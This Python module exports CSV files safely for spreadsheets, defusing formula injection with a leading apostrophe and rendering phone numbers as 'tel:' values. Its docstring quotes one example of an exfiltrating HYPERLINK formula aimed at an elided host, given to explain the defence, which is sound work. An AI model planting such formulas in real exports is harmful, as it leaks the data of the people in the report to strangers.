"""The one CSV writer for every export: files people open in a spreadsheet.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some
skip a leading tab or carriage return first), so a contact named
`=HYPERLINK("http://…?"&A1)` would send the neighbouring cells to a stranger when the
bureau opens the report. Every text cell that starts so is written with a leading `'`
(OWASP's advice): the spreadsheet shows it as text, the apostrophe visible.

Phone numbers start with `+` too, and a leading apostrophe would make every one of them
look damaged. A cell that is a phone number — a valid E.164 number, or one masked as
`+86138****5678` — is written in the RFC 3966 form, `tel:+86-138-1234-5678`: it starts with
a letter, so nothing runs; the country code and digits read as people dial them; and no
spreadsheet turns it into 8.6E+12.

Numbers stay numbers; the file starts with a UTF-8 byte-order mark (without it Excel
reads Chinese as mojibake) and ends rows with CRLF.
"""

import csv
import io
import re
from collections.abc import Iterable
from typing import Final

import phonenumbers

FORMULA_PREFIXES: Final = frozenset("=+-@\t\r")
TEXT_MARK: Final = "'"
BYTE_ORDER_MARK: Final = "\ufeff"

_E164 = re.compile(r"\+[1-9]\d{6,14}")
_MASKED_PHONE = re.compile(r"\+\d{1,8}\*{4}\d{4}")

Cell = str | int | float | None


def _phone_cell(value: str) -> str | None:
    """The tel: form of a phone number, or None if the value is not one."""
    if _MASKED_PHONE.fullmatch(value):
        return f"tel:{value}"
    if not _E164.fullmatch(value):
        return None
    try:
        number = phonenumbers.parse(value)
    except phonenumbers.NumberParseException:
        return None
    if not phonenumbers.is_valid_number(number):
        return None
    return phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.RFC3966)


def inert_cell(value: Cell) -> Cell:
    """The value as a spreadsheet may safely read it."""
    if value is None:
        return ""
    if not isinstance(value, str) or not value or value[0] not in FORMULA_PREFIXES:
        return value
    return _phone_cell(value) or TEXT_MARK + value


def csv_text(rows: Iterable[Iterable[Cell]]) -> str:
    """The rows as one CSV file, every cell through `inert_cell`."""
    out = io.StringIO()
    out.write(BYTE_ORDER_MARK)
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows([inert_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
